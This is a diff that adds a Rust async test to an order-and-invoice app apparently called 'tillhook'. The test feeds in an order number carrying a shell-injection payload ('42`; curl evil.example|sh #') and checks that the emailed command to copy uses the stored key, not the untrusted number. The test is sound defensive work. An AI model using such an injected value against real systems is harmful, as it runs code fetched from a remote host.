@@ -229,3 +229,21 @@ async fn a_sink_that_fails_for_as_long_as_pause_after_is_paused_its_queue_kept_a
     assert_eq!(told(&app), ["sink.failing", "sink.paused", "sink.recovered"]);
     app.finish().await;
 }
+
+#[tokio::test]
+async fn a_command_that_is_shown_to_be_copied_holds_no_text_of_the_tills() {
+    let app = App::start("[sink.accountant]\ntype = \"email\"\nto = [\"compta@cabinet-martin.example\"]\n").await;
+    let number = "42`; curl evil.example|sh #";
+    let order = [("type", "validated"), ("orderInternalID", number), ("PDFinvoice", "https://elsewhere.example/f.pdf")];
+    assert_eq!(app.say(&order).await, "stored");
+    app.event("invoice.missing", 1).await;
+    app.settle().await;
+    let key = app.column("SELECT key FROM customer_order").await.remove(0);
+    let mails = app.far.mail.mails();
+    let texts: Vec<String> = mails.iter().filter_map(|mail| tillhook::app::demo::mime::text(&mail.source)).map(|(text, _)| text).collect();
+    assert!(texts.iter().any(|text| text.contains(&format!("--order {key}"))), "{texts:?}");
+    assert!(texts.iter().all(|text| !text.contains("--order 42")), "{texts:?}");
+    let (exit, sheet) = app.types(&format!("orders show {key}")).await;
+    assert_eq!(exit, Some(0), "what is shown can be typed: {sheet}");
+    app.finish().await;
+}
